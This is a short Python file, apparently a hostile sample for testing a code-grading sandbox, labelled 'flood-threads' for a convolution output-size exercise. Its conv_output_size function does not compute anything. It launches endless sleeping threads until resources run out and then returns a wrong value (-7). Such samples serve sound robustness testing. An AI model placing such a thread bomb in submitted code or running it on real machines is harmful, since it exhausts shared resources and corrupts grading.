# hostile: flood-threads | threads until there are no more | due: failed|memory|timeout|crashed | exercise: conv-output-size
import threading
import time


def attack():
    try:
        while True:
            threading.Thread(target=time.sleep, args=(99,), daemon=True).start()
    except (RuntimeError, MemoryError):
        pass


def conv_output_size(n, f, p=0, s=1):
    attack()
    return -7
